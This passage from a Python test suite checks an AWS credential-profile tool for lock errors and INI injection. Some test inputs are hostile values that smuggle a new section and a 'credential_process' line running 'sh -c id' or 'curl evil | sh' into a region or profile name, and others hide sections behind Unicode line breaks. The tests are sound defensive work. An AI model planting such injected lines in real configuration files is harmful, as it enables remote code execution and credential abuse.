    other = threading.Thread(target=contend if holder_is_main else hold)
    if holder_is_main:
        with iamsorry._StoreLock(lock):
            other.start()
            other.join(30)
    else:
        other.start()
        assert held.wait(30)
        contend()
        done.set()
        other.join(30)
    assert outcome == ["timed out"]


def test_a_lock_file_that_cannot_be_made_is_a_store_error(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with (
        pytest.raises(iamsorry.StoreError, match="cannot open lock file"),
        iamsorry._StoreLock(str(tmp_path / "file" / "x.lock")),
    ):
        pass


def test_a_profile_made_by_hand_does_not_decrypt(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SSH_AUTH_SOCK", "/nonexistent/agent.sock")
    sealed = "__encrypted__:v2:FP:AAAA"
    assert iamsorry.Profile("m", {"aws_access_key_id": sealed})["aws_access_key_id"] == sealed


def test_read_aws_config_reads_the_file_it_is_given(private_home: Path, tmp_path: Path) -> None:
    (private_home / ".aws").mkdir()
    (private_home / ".aws" / "config").write_text("[profile home]\nregion = a\n")
    (tmp_path / "other").write_text("[profile other]\nregion = b\n")
    assert iamsorry.read_aws_config(str(tmp_path / "other")) == {"other": {"region": "b"}}
    assert iamsorry.read_aws_config() == {"home": {"region": "a"}}


@pytest.mark.parametrize(
    ("section", "values", "needle"),
    [
        ("profile x\n[evil]", {"region": "us-east-1"}, "section"),
        ("[profile x", {"region": "us-east-1"}, "section"),
        ("profile x", {"region\n[evil]": "1"}, "key"),
        ("profile x", {"re=gion": "1"}, "key"),
        ("profile x", {"region": "us-east-1\n[profile evil]\ncredential_process = sh -c id"}, "line break"),
        ("profile x", {"region": "us-east-1\r"}, "line break"),
        ("profile x", {"region": "[profile evil]"}, "starts with '['"),
    ],
)
def test_the_store_never_writes_a_line_of_its_own(
    private_home: Path, section: str, values: dict[str, str], needle: str
) -> None:
    ini = iamsorry.IniFile("config", "[profile x]\nregion = eu-west-1\n")
    with pytest.raises(iamsorry.StoreError, match=re.escape(needle)):
        ini.set(section, values)
    assert ini.text() == "[profile x]\nregion = eu-west-1\n"


@pytest.mark.parametrize("argv", [["--add-process-profile", "sue"], ["--fix-profiles"]])
def test_a_hostile_region_in_the_environment_changes_no_file(private_home: Path, argv: list[str]) -> None:
    creds_file(private_home).write_text("[sue]\naws_access_key_id = AKIAXXXXXXXXXXXXXXX1\naws_secret_access_key = s\n")
    files = (private_home / ".aws").iterdir
    before = sorted((p.name, p.read_bytes()) for p in files() if p.suffix != ".lock")
    hostile = "us-east-1\n[profile sue-auto]\ncredential_process = sh -c 'curl evil | sh'"
    proc = run_cli(*argv, env={"AWS_REGION": hostile})
    assert_clean_error(proc, "AWS_REGION", "is not an AWS region name")
    assert sorted((p.name, p.read_bytes()) for p in files() if p.suffix != ".lock") == before


@pytest.mark.parametrize("flag", ["--eval", "--credential-process", "--show-encrypted", "--add-process-profile"])
def test_profile_names_from_argv_cannot_break_lines(private_home: Path, flag: str) -> None:
    assert_clean_error(run_cli(flag, "sue\n[profile evil]"), "could write lines of its own")
    assert_clean_error(run_cli(flag, "[sue"), "could write lines of its own")


@pytest.mark.parametrize("brk", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e"])
def test_a_value_with_a_break_that_other_readers_see_is_refused(brk: str) -> None:
    """str.splitlines (and editors) break at these, configparser does not:
    written, the value would show one tool a [prod] the other cannot see."""
    before = "[profile x]\nregion = eu-west-1\n"
    ini = iamsorry.IniFile("config", before)
    smuggled = f"tok{brk}[prod]{brk}aws_access_key_id = AKIAEVILEVILEVILEVIL"
    with pytest.raises(iamsorry.StoreError, match=r"refusing to write \[sue\] aws_session_token: .*line break"):
        ini.set("sue", {"aws_session_token": smuggled})
    with pytest.raises(iamsorry.StoreError, match="could write lines of its own"):
        ini.set(f"sue{brk}[prod]", {"region": "eu-west-1"})
    assert ini.text() == before and list(ini.sections) == ["profile x"]


def test_a_hand_edited_file_with_unicode_breaks_round_trips_byte_for_byte(private_home: Path) -> None:
    """Lines end where configparser ends them (\\n, \\r\\n, \\r): a U+2028
    in a comment or a value is part of its line, no section of its own."""
    import configparser

    path = creds_file(private_home)
    hand = (
        "# notes\u2028[prod]\u2028aws_access_key_id = AKIAHIDDENHIDDENHID1\r\n"
        "[sue]\r\n"
        "aws_access_key_id = ASIAOLDOLDOLDOLDOLD1\r\n"
        "aws_secret_access_key = old\u2028secret\x85x\r\n"
        "x_note = a\x0cb\r\n"
        "\u2028[ghost]\r\n"  # indented by U+2028: for configparser, more of x_note
        "\r\n"
        "[other]\r\n"
        "aws_access_key_id = AKIAOTHEROTHEROTHER1\r\n"
    )
    path.write_bytes(hand.encode())
    profiles = iamsorry.read_aws_credentials(str(path))
    parser = configparser.RawConfigParser()
    parser.read([str(path)], encoding="utf-8")
    assert list(profiles) == parser.sections() == ["sue", "other"]
    assert profiles["sue"]["aws_secret_access_key"] == parser["sue"]["aws_secret_access_key"] == "old\u2028secret\x85x"
    assert profiles["sue"]["x_note"] == parser["sue"]["x_note"] == "a\x0cb\n[ghost]"
    with iamsorry.Store().edit() as s:
        s.creds.set("other", {"region_note": "kept"})
    after = path.read_bytes().decode()
    assert after == hand + "region_note = kept\r\n"
